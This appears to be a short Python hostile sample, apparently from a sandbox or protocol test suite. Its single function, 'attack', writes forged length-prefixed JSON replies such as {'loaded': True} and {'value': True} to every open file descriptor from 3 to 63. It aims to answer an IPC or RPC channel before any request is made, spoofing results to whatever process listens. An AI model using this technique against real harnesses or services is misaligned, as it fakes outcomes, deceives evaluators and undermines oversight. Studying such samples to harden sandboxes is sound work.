"""Answers before it was asked, on every channel."""
# ruff: noqa

import json, os


def attack():
    for value in (True, 1, {"tuple": [True]}, {"ref": 0}):
        for reply in ({"loaded": True}, {"value": value}, {"value": value, "args": []}):
            data = json.dumps(reply).encode()
            for number in range(3, 64):
                try:
                    os.write(number, len(data).to_bytes(4, "little") + data)
                except OSError:
                    pass
    return True
